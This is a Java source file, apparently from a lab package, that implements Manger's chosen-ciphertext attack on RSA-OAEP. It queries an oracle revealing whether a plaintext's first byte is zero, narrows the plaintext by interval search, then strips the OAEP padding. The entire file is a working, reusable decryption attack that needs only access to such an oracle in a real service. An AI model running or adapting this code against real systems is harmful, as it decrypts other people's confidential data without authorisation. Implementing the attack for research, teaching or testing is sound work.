package dev.parley.lab.foe;

import java.io.IOException;
import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.security.interfaces.RSAPublicKey;
import java.util.Arrays;
import java.util.Optional;

/**
 * Manger's attack on RSA-OAEP (CRYPTO 2001): whoever learns of chosen ciphertexts whether the first byte of the plaintext is zero
 * decrypts any ciphertext with little more questions than the modulus has bits.
 */
public final class Manger {
    private static final int HASH = 32;
    private static final BigInteger TWO = BigInteger.TWO;

    private final BigInteger modulus;
    private final BigInteger exponent;
    private final BigInteger bound;
    private final int length;
    private final Oracle oracle;
    private int questions;

    /** Says whether the plaintext of a ciphertext, as long as the modulus, begins with a byte other than zero. */
    @FunctionalInterface
    public interface Oracle {
        boolean isLarge(byte[] ciphertext) throws IOException;
    }

    public Manger(RSAPublicKey key, Oracle oracle) {
        modulus = key.getModulus();
        exponent = key.getPublicExponent();
        length = Math.ceilDiv(modulus.bitLength(), Byte.SIZE);
        bound = TWO.pow(Byte.SIZE * (length - 1));
        this.oracle = oracle;
    }

    /** How often it has asked. */
    public int questions() {
        return questions;
    }

    /** Decrypts. @return empty if the oracle contradicts itself, as one does that always says the same */
    public Optional<byte[]> decrypt(byte[] ciphertext, int atMost) throws IOException {
        BigInteger c = new BigInteger(1, ciphertext);
        BigInteger f1 = TWO;
        while (!isLarge(c, f1)) {
            f1 = f1.multiply(TWO);
            if (f1.compareTo(modulus) > 0 || questions > atMost) {
                return Optional.empty();
            }
        }
        BigInteger half = f1.divide(TWO);
        BigInteger f2 = modulus.add(bound).divide(bound).multiply(half);
        while (isLarge(c, f2)) {
            f2 = f2.add(half);
            if (questions > atMost) {
                return Optional.empty();
            }
        }
        BigInteger least = ceil(modulus, f2);
        BigInteger most = modulus.add(bound).divide(f2);
        while (least.compareTo(most) < 0) {
            BigInteger f = TWO.multiply(bound).divide(most.subtract(least));
            BigInteger i = f.multiply(least).divide(modulus);
            BigInteger f3 = ceil(i.multiply(modulus), least);
            BigInteger edge = i.multiply(modulus).add(bound);
            if (isLarge(c, f3)) {
                least = ceil(edge, f3);
            } else {
                most = edge.divide(f3);
            }
            if (questions > atMost) {
                return Optional.empty();
            }
        }
        return least.equals(most) ? decoded(bytes(least)) : Optional.empty();
    }

    private boolean isLarge(BigInteger ciphertext, BigInteger factor) throws IOException {
        questions++;
        return oracle.isLarge(
                bytes(factor.modPow(exponent, modulus).multiply(ciphertext).mod(modulus)));
    }

    private byte[] bytes(BigInteger number) {
        return unsigned(number, length);
    }

    /** A number as so many bytes, big-endian. */
    public static byte[] unsigned(BigInteger number, int length) {
        byte[] raw = number.toByteArray();
        byte[] bytes = new byte[length];
        int count = Math.min(raw.length, length);
        System.arraycopy(raw, raw.length - count, bytes, length - count, count);
        return bytes;
    }

    /** Takes off OAEP with SHA-256 and an empty label (RFC 8017 section 7.1.2). */
    private static Optional<byte[]> decoded(byte[] encoded) {
        byte[] seed = Arrays.copyOfRange(encoded, 1, 1 + HASH);
        byte[] block = Arrays.copyOfRange(encoded, 1 + HASH, encoded.length);
        xor(seed, mask(block, HASH));
        xor(block, mask(seed, block.length));
        if (!Arrays.equals(Arrays.copyOf(block, HASH), sha256())) {
            return Optional.empty();
        }
        int at = HASH;
        while (at < block.length && block[at] == 0) {
            at++;
        }
        return at < block.length && block[at] == 1
                ? Optional.of(Arrays.copyOfRange(block, at + 1, block.length))
                : Optional.empty();
    }

    private static byte[] mask(byte[] seed, int length) {
        byte[] mask = new byte[length];
        for (int at = 0, counter = 0; at < length; at += HASH, counter++) {
            byte[] hash = sha256(seed, new byte[] {0, 0, 0, (byte) counter});
            System.arraycopy(hash, 0, mask, at, Math.min(HASH, length - at));
        }
        return mask;
    }

    private static void xor(byte[] into, byte[] mask) {
        for (int i = 0; i < into.length; i++) {
            into[i] ^= mask[i];
        }
    }

    private static byte[] sha256(byte[]... parts) {
        try {
            MessageDigest digest = MessageDigest.getInstance("SHA-256");
            for (byte[] part : parts) {
                digest.update(part);
            }
            return digest.digest();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("this Java has no SHA-256", e);
        }
    }

    private static BigInteger ceil(BigInteger number, BigInteger divisor) {
        return number.add(divisor).subtract(BigInteger.ONE).divide(divisor);
    }
}
